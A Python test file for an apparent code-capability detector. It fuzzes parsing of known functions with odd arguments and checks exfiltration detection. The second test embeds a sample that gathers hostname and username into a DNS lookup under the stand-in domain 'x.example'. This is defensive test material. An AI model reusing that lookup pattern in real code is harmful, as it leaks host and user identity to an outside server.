"""A function that is known is called with anything but what it wants, and nothing breaks."""

from __future__ import annotations

import pytest

from fimci.capabilities.python_names import NAMES
from fimci.model import Capability
from fimci.readers.code import python
from fimci.readers.code.python_syntax import computing, folding
from fimci.readers.code.python_syntax.program import program

KNOWN = sorted({name.removesuffix(".*") for name in NAMES} | {*folding.DECODERS, *computing._FUNCTIONS})
METHODS = [
    "to_bytes",
    "from_bytes",
    "decode",
    "encode",
    "join",
    "replace",
    "split",
    "format",
    "translate",
    "hex",
]
VALUES = ["(5)", "'a'", "b'a'", "int", "str", "bytes", "z"]
GIVEN = ["", "*a", "**a", "x", "1", "''", "b''", "[]", "None", "a=1", "lambda: 0", "1, 2", "'a', *b, **c"]


@pytest.mark.parametrize("given", GIVEN)
def test_a_known_function_with_any_arguments(given: str) -> None:
    """`int.to_bytes(length=4)` once broke the reading of a file of ansible-core."""
    calls = [f"{value}.{method}({given})" for method in METHODS for value in VALUES]
    lines = [f"exec({call})" for call in calls]
    for number, name in enumerate(KNOWN):
        module, _, member = name.rpartition(".")
        if module:
            lines.append(f"import {module} as m{number}")
        lines.append(f"exec(m{number}.{member}({given}))" if module else f"exec({name}({given}))")
    for start in range(0, len(lines), 400):
        program("\n".join(lines[start : start + 400]).encode(), "x.py")


def test_who_asks_for_an_address_made_of_unknown_parts_sends_nothing() -> None:
    code = b"""import socket, os, platform, getpass
def ask(name):
    facts = socket.gethostname() + platform.node() + getpass.getuser()
    return socket.getaddrinfo(f"{facts}.%s", None)
"""
    told = {record.name for record in python.read("a.py", code % b"{name}") if isinstance(record, Capability)}
    assert "exfiltration" not in told
    told = {
        record.name for record in python.read("a.py", code % b"x.example") if isinstance(record, Capability)
    }
    assert "exfiltration" in told
